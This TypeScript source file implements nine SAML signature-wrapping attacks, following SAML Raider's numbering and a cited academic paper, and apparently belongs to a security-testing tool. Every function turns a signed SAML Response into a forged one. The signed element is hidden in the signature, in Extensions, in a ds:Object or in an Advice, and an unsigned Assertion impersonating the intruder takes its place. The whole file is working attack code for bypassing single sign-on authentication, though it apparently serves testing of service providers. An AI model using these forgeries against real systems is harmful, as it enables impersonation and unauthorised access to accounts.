import {
  firstElement,
  impersonate,
  insertAfterIssuer,
  insertAtEnd,
  replaceOnce,
  withOtherId,
  withoutSignature,
} from "./alter.js";

/**
 * Ways to wrap what is signed: it stays somewhere in the document, and an unsigned statement about the intruder stands
 * where a careless reader looks.
 *
 * Eight are numbered as SAML Raider numbers them; in the first two the Response is signed, in all others the Assertion. The
 * ninth is one that the schema allows.
 *
 * @see {@link https://www.usenix.org/conference/usenixsecurity12/technical-sessions/presentation/somorovsky | On Breaking SAML: Be Whoever You Want to Be}
 * @see {@link https://github.com/CompassSecurity/SAMLRaider | SAML Raider}
 */
export const wrappings = {
  /** The signed Response inside of the signature, which the forged one has taken. */
  "wrapped, 1": (response: string) => {
    const signature = insertAtEnd(firstElement(response, "ds:Signature"), withoutSignature(response));
    return insertAfterIssuer(forge(response), signature);
  },
  /** The signed Response before the signature. */
  "wrapped, 2": (response: string) => {
    const signature = firstElement(response, "ds:Signature");
    return insertAfterIssuer(forge(response), withoutSignature(response) + signature);
  },
  /** The forged Assertion before the signed one. */
  "wrapped, 3": inPlaceOfAssertion((signed) => forge(signed) + signed),
  /** The signed Assertion inside of the forged one. */
  "wrapped, 4": inPlaceOfAssertion((signed) => insertAtEnd(forge(signed), signed)),
  /** The forged Assertion has taken the signature, the signed one follows it. */
  "wrapped, 5": inPlaceOfAssertion((signed) => {
    const signature = firstElement(signed, "ds:Signature");
    return insertAfterIssuer(forge(signed), signature) + withoutSignature(signed);
  }),
  /** The signed Assertion inside of the signature, which the forged one has taken. */
  "wrapped, 6": inPlaceOfAssertion((signed) => {
    const signature = insertAtEnd(firstElement(signed, "ds:Signature"), withoutSignature(signed));
    return insertAfterIssuer(forge(signed), signature);
  }),
  /** The forged Assertion, with the ID of the signed one, in Extensions, where any element may be. */
  "wrapped, 7": (response: string) => {
    const forged = impersonate(withoutSignature(firstElement(response, "saml:Assertion")));
    return replaceOnce(response, "<samlp:Status>", `<samlp:Extensions>${forged}</samlp:Extensions><samlp:Status>`);
  },
  /** The signed Assertion in an Object of the signature, which the forged one has taken. */
  "wrapped, 8": inPlaceOfAssertion((signed) => {
    const object = `<ds:Object>${withoutSignature(signed)}</ds:Object>`;
    return insertAfterIssuer(forge(signed), insertAtEnd(firstElement(signed, "ds:Signature"), object));
  }),
  /** The signed Assertion in the Advice of the forged one, where Assertions may be. */
  "wrapped, 9": inPlaceOfAssertion((signed) =>
    replaceOnce(forge(signed), "</saml:Conditions>", `</saml:Conditions><saml:Advice>${signed}</saml:Advice>`),
  ),
} as const;

/** The same about the intruder, unsigned and with another ID. */
function forge(signed: string): string {
  return withOtherId(impersonate(withoutSignature(signed)));
}

function inPlaceOfAssertion(rewrite: (signed: string) => string): (response: string) => string {
  return (response) => {
    const signed = firstElement(response, "saml:Assertion");
    return replaceOnce(response, signed, rewrite(signed));
  };
}
